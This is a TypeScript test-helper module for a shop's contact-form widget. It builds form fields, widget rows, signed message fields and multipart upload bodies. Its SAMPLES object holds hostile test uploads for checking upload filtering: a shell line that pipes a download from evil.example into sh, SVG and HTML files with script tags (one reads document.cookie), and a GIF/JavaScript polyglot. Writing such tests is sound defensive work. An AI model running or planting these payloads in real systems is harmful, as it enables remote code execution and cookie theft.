/** Test helpers for contact messages: a widget row written straight into the table, a message's fields, and multipart bodies. */
import { randomBytes } from "node:crypto";
import type { CaptchaProvider, Channel, ContactField } from "@cartwright/commerce/contact-widget";
import type { Db } from "../../db/index.ts";
import { createWidgetNonce } from "../../http/tokens.ts";

export const field = (name: string, type: string, extra: Partial<ContactField> = {}): ContactField => ({
  field: name,
  type,
  title: name[0]?.toUpperCase() + name.slice(1),
  placeholder: "",
  is_required: false,
  is_custom: !["name", "email", "phone", "message"].includes(name),
  field_dropdown: [],
  field_label: "",
  dropdown_placeholder: "",
  dropdown_option: "",
  ...extra,
});

/** The form the tests fill: the four standard fields and one custom field of each checked kind. */
export const FORM_FIELDS: ContactField[] = [
  field("name", "text", { is_required: true, title: "Your name" }),
  field("email", "email", { is_required: true }),
  field("phone", "tel"),
  field("message", "textarea", { is_required: true }),
  field("company", "text"),
  field("website", "url"),
  field("topic", "dropdown", { field_dropdown: ["Sales", "Support"] }),
  field("visit", "date"),
  field("quantity", "number"),
  field("details", "textarea"),
  field("note", "textblock"),
  field("attachment", "file"),
];

export function contactChannel(captcha: CaptchaProvider = "none", fields: ContactField[] = FORM_FIELDS): Partial<Channel> {
  return {
    channel: "Contact_Us",
    channel_type: "Contact_Us",
    value: "",
    is_desktop: true,
    is_mobile: true,
    captcha_provider: captcha,
    contact_fields: fields,
    contact_form_settings: {
      contact_form_title: "Contact us",
      button_text: "Send",
      button_bg_color: "#a886cd",
      button_text_color: "#ffffff",
      title_bg_color: "#a886cd",
      success_message: "Thanks, we will reply soon.",
      redirect_action: true,
      redirect_link: "https://shop.example.com/thanks",
      link_in_new_tab: false,
      close_form_after: true,
      close_form_after_seconds: 3,
    },
  };
}

/** A widget with a phone channel first and a contact form second (index 1); returns its id and token. */
export async function insertWidget(db: Db, options: { captcha?: CaptchaProvider; active?: boolean } = {}) {
  const token = randomBytes(12).toString("hex");
  const at = new Date().toISOString();
  const channels = [{ channel: "Phone", channel_type: "Phone", value: "+15550100" }, contactChannel(options.captcha)];
  const row = await db
    .insertInto("contact_widgets")
    .values({
      identifier: "Test widget",
      active: options.active === false ? 0 : 1,
      allowed_origins: "[]",
      settings: JSON.stringify({ widget_token: token }),
      triggers: "{}",
      channels: JSON.stringify(channels),
      created_at: at,
      updated_at: at,
    })
    .returning("id")
    .executeTakeFirstOrThrow();
  return { id: row.id, token };
}

/**
 * A contact message's fields as the widget posts them (spec §7) to a widget's contact form (its channel 1, as
 * insertWidget makes it), under a nonce of its token signed with the app's secret; `fields` adds or replaces some.
 */
export function messageFields(
  widget: { id: number; token: string },
  secret: string,
  fields: Record<string, string> = {},
): Record<string, string> {
  return {
    action: "contact_front_form_save_data",
    widget: String(widget.id),
    channel: "1",
    nonce: createWidgetNonce(secret, widget.id, widget.token),
    name: "Ada Visitor",
    email: "ada@example.com",
    message: "Do you ship to Norway?",
    ref_url: "https://shop.example.com/product/classic-t-shirt",
    page_title: "Classic T-Shirt",
    page_id: "12",
    ...fields,
  };
}

export interface Part {
  name: string;
  value?: string;
  filename?: string;
  type?: string;
  data?: Buffer;
}

/** A multipart/form-data body as a browser sends it. */
export function multipart(parts: Part[]): { payload: Buffer; headers: Record<string, string> } {
  const boundary = `----cw${randomBytes(8).toString("hex")}`;
  const chunks: Buffer[] = [];
  for (const part of parts) {
    const file = part.filename !== undefined;
    const disposition = `form-data; name="${part.name}"${file ? `; filename="${part.filename}"` : ""}`;
    const head = `--${boundary}\r\nContent-Disposition: ${disposition}\r\n${file ? `Content-Type: ${part.type ?? "application/octet-stream"}\r\n` : ""}\r\n`;
    chunks.push(Buffer.from(head), file ? (part.data ?? Buffer.alloc(0)) : Buffer.from(part.value ?? ""), Buffer.from("\r\n"));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(chunks), headers: { "content-type": `multipart/form-data; boundary=${boundary}` } };
}

/** Small real files of each kind the tests send. */
export const SAMPLES = {
  png: Buffer.from(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8ffff3f0005fe02fea7d6a0000000000049454e44ae426082",
    "hex",
  ),
  pdf: Buffer.from("%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"),
  exe: Buffer.concat([Buffer.from("MZ"), Buffer.alloc(300, 0x90)]),
  elf: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(300)]),
  machO: Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(300)]),
  script: Buffer.from("#!/bin/sh\ncurl https://evil.example | sh\n"),
  svg: Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  html: Buffer.from("<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"),
  /** A GIF that is also a script (GIF89a then JavaScript): its real type, GIF, is not a PNG. */
  gifPolyglot: Buffer.concat([Buffer.from("GIF89a/*"), Buffer.alloc(20), Buffer.from("*/=1;alert(1)")]),
};
